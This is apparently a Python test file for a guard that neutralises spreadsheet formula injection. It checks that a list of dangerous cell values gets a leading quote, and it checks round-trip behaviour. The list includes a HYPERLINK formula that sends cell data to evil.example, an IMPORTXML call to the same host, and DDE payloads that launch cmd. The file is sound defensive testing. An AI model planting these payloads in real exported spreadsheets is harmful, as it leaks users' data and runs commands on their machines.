"""No cell is run by a spreadsheet, and none is changed by going out and coming back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotations.formats.tables.guard import guarded, unguarded

RUN = (
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=IMPORTXML("http://evil.example","//a")',
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "|cmd",
    "%0A",
)


@pytest.mark.parametrize("cell", RUN)
def test_what_runs_is_guarded(cell: str) -> None:
    assert guarded(cell) == "'" + cell
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize("cell", ["", "it's", "'tis", "12", "a=b", "“=”", "– 12", "حلب", "😊=1"])
def test_what_does_not_run_stays(cell: str) -> None:
    assert guarded(cell) == cell == unguarded(cell)


@given(st.text(alphabet="'=+-@\t\n 1aé＝"))
def test_nothing_changes_by_going_out_and_coming_back(cell: str) -> None:
    assert unguarded(guarded(cell)) == cell
    assert not guarded(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
